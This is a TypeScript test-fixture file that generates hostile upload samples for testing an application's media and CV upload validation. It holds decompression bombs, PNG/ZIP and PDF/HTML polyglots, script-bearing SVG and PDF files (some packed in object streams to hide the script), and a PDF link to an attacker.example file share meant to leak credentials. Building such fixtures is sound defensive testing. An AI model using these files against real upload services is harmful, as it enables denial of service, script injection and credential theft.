import zlib from "node:zlib";

/**
 * Hostile upload samples, built in memory (nothing big is committed): shared by the unit tests of
 * media.server.ts / cv.server.ts and the browser tests that post them through the forms.
 */

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) crc = CRC_TABLE[(crc ^ byte) & 0xff]! ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

const PNG_SIGNATURE = Buffer.from([
  0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a,
]);

/** A complete, valid greyscale PNG; bit depth 1 keeps even a huge one small to build. */
export function pngImage(
  width: number,
  height: number,
  bitDepth: 1 | 8 = 8,
): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = bitDepth;
  header[9] = 0; // greyscale
  const rowBytes = 1 + Math.ceil((width * bitDepth) / 8);
  const raw = Buffer.alloc(rowBytes * height); // filter 0, all black
  return Buffer.concat([
    PNG_SIGNATURE,
    chunk("IHDR", header),
    chunk("IDAT", zlib.deflateSync(raw, { level: 9 })),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

/** A decompression bomb: a valid 30,000 x 30,000 PNG (900 megapixels) of about 110 KB. */
export function pngBomb(): Buffer {
  return pngImage(30_000, 30_000, 1);
}

/** A minimal ZIP archive holding one stored file (local header, central directory, end record). */
export function zipArchive(
  name = "payload.html",
  content = "<script>alert(1)</script>",
): Buffer {
  const fileName = Buffer.from(name);
  const data = Buffer.from(content);
  const crc = crc32(data);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const centralOffset = local.length + fileName.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fileName.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return Buffer.concat([local, fileName, data, central, fileName, end]);
}

/** A valid PNG with a ZIP appended: image viewers show the picture, unzip finds the archive. */
export function pngZipPolyglot(): Buffer {
  return Buffer.concat([pngImage(64, 48), zipArchive()]);
}

/** A ZIP wearing a PNG signature: the first 8 bytes say image, the rest is an archive. */
export function zipWithPngHeader(): Buffer {
  return Buffer.concat([PNG_SIGNATURE, zipArchive()]);
}

/** The first `fraction` of a file: an upload cut off half way. */
export function truncated(bytes: Buffer, fraction = 0.6): Buffer {
  return bytes.subarray(0, Math.floor(bytes.length * fraction));
}

export const SVG_WITH_SCRIPT =
  '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><script>alert(1)</script><rect width="100" height="100"/></svg>';

/** A small but well-formed PDF (header, one page, xref, trailer, %%EOF). */
export function pdfDocument(extra = ""): Buffer {
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
  ];
  let body = "%PDF-1.4\n";
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(body.length);
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  body += extra;
  const xref = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets)
    body += `${String(offset).padStart(10, "0")} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, "latin1");
}

/** A PDF that is also an HTML page: a browser sniffing it would run the script. */
export function pdfHtmlPolyglot(): Buffer {
  return pdfDocument(
    "% <html><body><script>alert(document.cookie)</script></body></html>\n",
  );
}

/** A PDF that runs JavaScript when opened. */
export function pdfWithJavaScript(): Buffer {
  return pdfDocument(
    "4 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>\nendobj\n",
  );
}

/**
 * A PDF 1.5 whose objects are packed in a deflated object stream (as most writers save them), one
 * of them `packedObject`. `layers` deflates it that many times (a filter array).
 */
export function pdfWithObjectStream(
  packedObject: string,
  layers = 1,
  filter = "/FlateDecode",
): Buffer {
  // The stream's header lists object 4 at offset 0 after it (/First 4), then the object itself.
  let data = Buffer.from(`4 0 ${packedObject}`, "latin1");
  for (let i = 0; i < layers; i++) data = zlib.deflateSync(data);
  const filters =
    layers > 0
      ? ` /Filter [${Array.from({ length: layers }, () => filter).join(" ")}]`
      : "";
  return pdfDocument(
    `5 0 obj\n<< /Type /ObjStm /N 1 /First 4${filters} /Length ${data.length} >>\nstream\n${data.toString("latin1")}\nendstream\nendobj\n`,
  );
}

/** A Windows executable's first bytes. */
export const EXECUTABLE = Buffer.concat([
  Buffer.from("MZ\x90\x00\x03\x00\x00\x00", "latin1"),
  Buffer.alloc(120),
  Buffer.from("This program cannot be run in DOS mode."),
]);

export const HTML_PAGE = Buffer.from(
  "<!doctype html><html><body><script>alert(1)</script></body></html>",
);

/** Part of a PDF body: text (written as latin1) or bytes. */
type PdfPart = string | Buffer;

const part = (value: PdfPart) =>
  typeof value === "string" ? Buffer.from(value, "latin1") : value;

/** A stream object's body: its dictionary (with /Length added) and its data. */
export function pdfStream(dict: string, data: PdfPart): Buffer {
  const bytes = part(data);
  return Buffer.concat([
    part(`<< ${dict} /Length ${bytes.length} >>\nstream\n`),
    bytes,
    part("\nendstream"),
  ]);
}

/**
 * A classic PDF (cross-reference table) of numbered objects. With `base`, an incremental update of
 * that file: the objects are appended, with a new table whose /Prev is the base's.
 */
export function pdfFromObjects(
  objects: [number, PdfPart][],
  base?: Buffer,
): Buffer {
  const chunks = [base ?? part("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")];
  let length = chunks[0]!.length;
  const push = (value: PdfPart) => {
    const bytes = part(value);
    chunks.push(bytes);
    length += bytes.length;
  };
  const offsets: [number, number][] = [];
  for (const [number, body] of objects) {
    offsets.push([number, length]);
    push(`${number} 0 obj\n`);
    push(body);
    push("\nendobj\n");
  }
  const xref = length;
  let table = base ? "xref\n" : "xref\n0 1\n0000000000 65535 f \n";
  for (const [number, offset] of offsets)
    table += `${number} 1\n${String(offset).padStart(10, "0")} 00000 n \n`;
  const size = Math.max(...objects.map(([number]) => number)) + 1;
  const previous = base
    ? ` /Prev ${/startxref\s+(\d+)\s+%%EOF\s*$/.exec(base.toString("latin1"))![1]}`
    : "";
  push(
    `${table}trailer\n<< /Size ${size} /Root 1 0 R${previous} >>\nstartxref\n${xref}\n%%EOF\n`,
  );
  return Buffer.concat(chunks);
}

/** PNG "Up" predictor rows of `columns` bytes, as PDF writers encode with /Predictor 12. */
function pngUpRows(data: Buffer, columns: number): Buffer {
  const rows = Math.ceil(data.length / columns);
  const padded = Buffer.alloc(rows * columns);
  data.copy(padded);
  const out = Buffer.alloc(rows * (columns + 1));
  for (let row = 0; row < rows; row++) {
    out[row * (columns + 1)] = 2;
    for (let i = 0; i < columns; i++) {
      const up = row > 0 ? padded[(row - 1) * columns + i]! : 0;
      out[row * (columns + 1) + 1 + i] =
        (padded[row * columns + i]! - up) & 0xff;
    }
  }
  return out;
}

/**
 * A PDF 1.5 as modern writers save it: the objects given as text (numbered from 1) packed in one
 * deflated object stream, with a PNG predictor when `predictor` is set; objects given as bytes
 * (streams, which cannot be packed) written out; a cross-reference stream pointing at all.
 */
export function pdfWithPackedObjects(
  objects: PdfPart[],
  predictor = true,
): Buffer {
  const packed = objects.flatMap((body, index) =>
    typeof body === "string" ? [[index + 1, body] as const] : [],
  );
  let header = "";
  let data = "";
  for (const [number, body] of packed) {
    header += `${number} ${data.length} `;
    data += `${body}\n`;
  }
  const inflated = Buffer.from(header + data, "latin1");
  const columns = 5;
  const streamNumber = objects.length + 1;
  const xrefNumber = objects.length + 2;
  const objectStream = pdfStream(
    `/Type /ObjStm /N ${packed.length} /First ${header.length} /Filter /FlateDecode` +
      (predictor
        ? ` /DecodeParms << /Predictor 12 /Columns ${columns} >>`
        : ""),
    zlib.deflateSync(predictor ? pngUpRows(inflated, columns) : inflated),
  );
  const chunks = [part("%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")];
  let length = chunks[0]!.length;
  const entries = new Map<number, [number, number, number]>([
    [0, [0, 0, 65535]],
  ]);
  const write = (number: number, body: Buffer) => {
    entries.set(number, [1, length, 0]);
    const bytes = Buffer.concat([
      part(`${number} 0 obj\n`),
      body,
      part("\nendobj\n"),
    ]);
    chunks.push(bytes);
    length += bytes.length;
  };
  objects.forEach((body, index) => {
    if (typeof body !== "string") write(index + 1, body);
  });
  packed.forEach(([number], index) =>
    entries.set(number, [2, streamNumber, index]),
  );
  write(streamNumber, objectStream);
  const xrefOffset = length;
  entries.set(xrefNumber, [1, xrefOffset, 0]);
  const rows = Buffer.alloc((xrefNumber + 1) * 7);
  for (let number = 0; number <= xrefNumber; number++) {
    const [type, field, generation] = entries.get(number) ?? [0, 0, 0];
    rows.writeUInt8(type, number * 7);
    rows.writeUInt32BE(field, number * 7 + 1);
    rows.writeUInt16BE(generation, number * 7 + 5);
  }
  write(
    xrefNumber,
    pdfStream(
      `/Type /XRef /Size ${xrefNumber + 1} /W [1 4 2] /Root 1 0 R`,
      rows,
    ),
  );
  chunks.push(part(`startxref\n${xrefOffset}\n%%EOF\n`));
  return Buffer.concat(chunks);
}

const CATALOG_PAGES = [
  "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
  "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [5 0 R] >>",
];

/** A PDF 1.5 that runs a script on opening, packed in an object stream with a PNG predictor. */
export function pdfWithPackedScript(): Buffer {
  return pdfWithPackedObjects([
    "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
    ...CATALOG_PAGES,
    "<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>",
    "<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /Dest [3 0 R /Fit] >>",
  ]);
}

/** A PDF whose link opens a file on a remote share (and leaks the reader's credentials to it). */
export function pdfWithRemoteShareLink(): Buffer {
  return pdfFromObjects([
    [1, "<< /Type /Catalog /Pages 2 0 R >>"],
    [2, CATALOG_PAGES[0]!],
    [3, CATALOG_PAGES[1]!],
    [
      5,
      "<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (file://attacker.example/share/cv.docx) >> >>",
    ],
  ]);
}

/**
 * A tiny file that claims a huge picture: a one-colour 6000 x 6000 AVIF of about 900 bytes, whose
 * full decode takes 108 MB of pixels (and took some 2 GB before decoding was bounded).
 */
export async function avifTinyButHuge(
  width = 6000,
  height = 6000,
): Promise<Buffer> {
  const { default: sharp } = await import("sharp");
  return sharp({
    create: { width, height, channels: 3, background: "#336699" },
  })
    .avif({ quality: 30, effort: 0 })
    .toBuffer();
}
